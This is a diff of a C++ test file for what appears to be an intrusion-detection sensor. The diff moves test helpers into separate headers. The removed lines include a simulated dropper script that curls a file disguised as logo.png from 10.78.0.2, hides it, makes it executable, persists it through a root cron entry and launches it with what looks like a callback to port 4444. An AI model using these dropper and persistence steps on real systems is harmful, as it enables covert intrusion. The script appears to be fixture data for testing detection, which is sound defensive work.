@@ -1,11 +1,10 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 // Ways onto a computer, and what is kept of them.
 #include "tests/sensor/dropper.h"
+#include "tests/trace_scenarios/medium.h"
 #include "tests/trace_scenarios/mount_label.h"
+#include "tests/trace_scenarios/scenes.h"
 #include "tests/trace_scenarios/trace_scenario.h"
-
-#include <fstream>
-#include <sys/mount.h>
 
 using namespace metsuke;
 using namespace metsuke::test;
@@ -16,37 +15,6 @@ namespace {
 
 INSTANTIATE_TEST_SUITE_P(Ways, TraceScenario, ::testing::Values("ebpf", "proc"),
     [](const auto& way) { return std::string(way.param); });
-
-/// Fetches a program by another program, hides and persists it.
-constexpr const char* kFetchingScript = R"sh(#!/bin/bash
-# METSUKE-SIM
-[ -n "$METSUKE_SIM_ROOT" ] || exit 1
-cd "$METSUKE_SIM_ROOT" || exit 1
-curl -s -o home/.u.part http://10.78.0.2:8080/logo.png
-mv home/.u.part home/.update
-chmod +x home/.update
-printf '* * * * * root %s/home/.update\n' "$METSUKE_SIM_ROOT" >> etc/cron.d/upd
-setsid home/.update tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &
-exit 0
-)sh";
-
-/// A medium in the victim's tree, with a program on it.
-class Medium {
-public:
-    Medium(std::string folder, const std::string& program)
-        : m_folder(std::move(folder)) {
-        std::filesystem::create_directories(m_folder);
-        EXPECT_EQ(::mount("metsuke", m_folder.c_str(), "tmpfs", 0, "size=16m"), 0);
-        std::ofstream(m_folder + "/tool", std::ios::binary) << program;
-        std::filesystem::permissions(m_folder + "/tool", std::filesystem::perms::owner_all);
-    }
-    ~Medium() { EXPECT_EQ(::umount2(m_folder.c_str(), MNT_DETACH), 0); }
-    Medium(const Medium&) = delete;
-    Medium& operator=(const Medium&) = delete;
-
-private:
-    std::string m_folder;
-};
 
 } // namespace
 
